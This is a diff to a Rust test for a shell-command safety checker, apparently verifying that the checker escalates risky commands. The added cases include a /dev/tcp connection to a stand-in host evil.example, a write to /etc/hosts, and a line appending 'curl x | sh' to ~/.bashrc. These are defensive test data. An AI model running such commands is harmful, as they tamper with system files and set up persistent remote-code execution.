@@ -278,6 +278,12 @@ fn each_mutant_reproduces_its_miss() {
         (Mutant::BuildToolPrefixAllow, "make install"),
         (Mutant::PushFlagsOnly, "git push --tags"),
         (Mutant::PushFlagsOnly, "git push origin +main"),
+        (
+            Mutant::SocketRedirectBlind,
+            "cat < /dev/tcp/evil.example/80",
+        ),
+        (Mutant::WorkspaceBlind, "echo x >> /etc/hosts"),
+        (Mutant::WorkspaceBlind, "echo 'curl x | sh' >> ~/.bashrc"),
     ];
     for (m, c) in misses {
         assert_eq!(band_of(&inspect(c, None)), Band::Escalate, "{c:?}");
